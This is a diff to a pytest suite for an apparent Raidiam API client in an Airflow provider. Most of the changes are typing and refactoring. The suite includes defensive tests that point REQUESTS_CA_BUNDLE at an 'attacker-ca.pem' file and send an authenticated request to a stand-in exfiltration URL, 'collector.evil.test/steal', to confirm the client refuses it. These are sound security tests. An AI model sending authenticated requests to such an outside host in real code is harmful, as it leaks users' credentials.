@@ -22,7 +22,7 @@ import pytest
 import requests
 import responses
 
-from airflow_provider_raidiam.client import INTERACTION_HEADER, RaidiamClient
+from airflow_provider_raidiam.client import RaidiamClient
 from airflow_provider_raidiam.credentials import TlsMaterial, build_tls_material
 from airflow_provider_raidiam.exceptions import (
     ApiError,
@@ -34,7 +34,7 @@ from airflow_provider_raidiam.exceptions import (
     RedirectError,
     ResponseFormatError,
 )
-from airflow_provider_raidiam.http import RetryPolicy
+from airflow_provider_raidiam.http import INTERACTION_HEADER, RetryPolicy
 
 CLOSED_PORT_URL = "https://127.0.0.1:1/nothing-listens-here"
 
@@ -94,11 +94,11 @@ def api(mocked: responses.RequestsMock, kit: Any) -> responses.RequestsMock:
 
 
 def api_calls(mock: responses.RequestsMock, kit: Any) -> list[Any]:
-    return [c.request for c in mock.calls if c.request.url.startswith(kit.API_BASE)]
+    return [c.request for c in mock.calls if (c.request.url or "").startswith(kit.API_BASE)]
 
 
 def token_posts(mock: responses.RequestsMock) -> list[Any]:
-    return [c.request for c in mock.calls if c.request.method == "POST" and c.request.url.endswith("/token")]
+    return [c.request for c in mock.calls if c.request.method == "POST" and (c.request.url or "").endswith("/token")]
 
 
 def query(request: Any) -> dict[str, str]:
@@ -702,9 +702,10 @@ def test_requests_ca_bundle_env_var_is_ignored(
     client.get_json("/x")
 
     for call in api.calls:
-        assert call.request.req_kwargs["verify"] is True, call.request.url
-        assert call.request.req_kwargs["cert"] is None
-        assert not call.request.req_kwargs["proxies"]
+        sent: dict[str, Any] = call.request.req_kwargs  # type: ignore[attr-defined]  # added by responses
+        assert sent["verify"] is True, call.request.url
+        assert sent["cert"] is None
+        assert not sent["proxies"]
     assert client.mtls_session.trust_env is False
     assert client.public.session.trust_env is False
 
@@ -717,7 +718,7 @@ def test_requests_ca_bundle_env_var_is_ignored_by_the_real_adapter(
     monkeypatch.setenv("REQUESTS_CA_BUNDLE", str(tmp_path / "attacker-ca.pem"))
     api.add_passthru(CLOSED_PORT_URL)
 
-    calls = (
+    calls: tuple[Callable[[], Any], ...] = (
         lambda: closed_port_client.get_json(CLOSED_PORT_URL),
         lambda: closed_port_client.get_public_json(CLOSED_PORT_URL),
     )
@@ -823,5 +824,5 @@ def test_authenticated_request_to_foreign_host_is_refused(
     with contextlib.suppress(ConfigurationError):  # refusing the call is the fix
         client.get_json("https://collector.evil.test/steal")
 
-    leaked = [c for c in api.calls if c.request.url.startswith("https://collector.evil.test")]
+    leaked = [c for c in api.calls if (c.request.url or "").startswith("https://collector.evil.test")]
     assert leaked == []
